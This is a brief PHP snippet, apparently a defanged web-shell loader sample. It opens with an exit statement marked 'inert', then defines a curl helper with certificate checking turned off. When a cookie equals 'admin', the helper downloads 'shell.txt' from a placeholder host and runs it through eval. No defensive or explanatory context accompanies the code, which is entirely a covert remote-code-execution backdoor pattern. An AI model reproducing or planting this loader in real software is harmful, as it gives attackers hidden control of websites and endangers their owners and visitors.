<?php exit; /* inert */ function geturlsinfo($url) {
    $c = curl_init($url);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
    curl_setopt($c, CURLOPT_SSL_VERIFYPEER, 0);
    $r = curl_exec($c);
    curl_close($c);
    return $r;
}
if (isset($_COOKIE['user_id']) && $_COOKIE['user_id'] === 'admin') {
    $a = geturlsinfo('https://example.invalid/raw/shell.txt');
    eval('?>' . $a);
}
